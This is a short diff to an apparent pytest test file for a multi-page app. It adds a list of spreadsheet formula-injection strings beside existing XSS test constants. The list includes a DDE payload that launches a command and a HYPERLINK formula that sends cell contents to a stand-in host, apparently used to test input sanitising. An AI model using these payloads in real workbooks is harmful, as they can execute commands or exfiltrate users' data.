@@ -20,6 +20,8 @@ PAGES = ["pages/beranda.py", "pages/impor.py", "pages/gantt.py", "pages/cakupan.
          "pages/progres.py", "pages/riwayat.py"]
 XSS = "<script>alert(1)</script>"
 BOLD = "<b>x</b>"
+# workbook text a spreadsheet would evaluate (issue 18.3)
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
 
 
 @pytest.fixture(scope="session")
